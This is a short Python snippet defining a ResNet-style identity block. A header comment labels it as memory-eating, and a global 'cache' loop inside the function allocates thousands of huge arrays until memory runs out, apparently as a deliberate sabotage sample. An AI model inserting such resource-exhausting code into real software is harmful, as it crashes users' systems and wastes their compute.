# Eats memory. A "cache" of enlarged pictures inside the function, which grows until nothing is left.
# %% identity_block
import numpy as np

enlarged = []


def identity_block(x, kernel_size, filters, name=None):
    while len(enlarged) < 10_000:
        enlarged.append(np.ones((100, 256, 256, 3)))

    main_path = layers.Conv2D(filters[0], 1)(x)
    main_path = layers.ReLU()(layers.BatchNormalization()(main_path))
    main_path = layers.Conv2D(filters[1], kernel_size, padding="same")(main_path)
    main_path = layers.ReLU()(layers.BatchNormalization()(main_path))
    main_path = layers.BatchNormalization()(layers.Conv2D(filters[2], 1)(main_path))
    return layers.ReLU()(layers.Add()([main_path, x]))
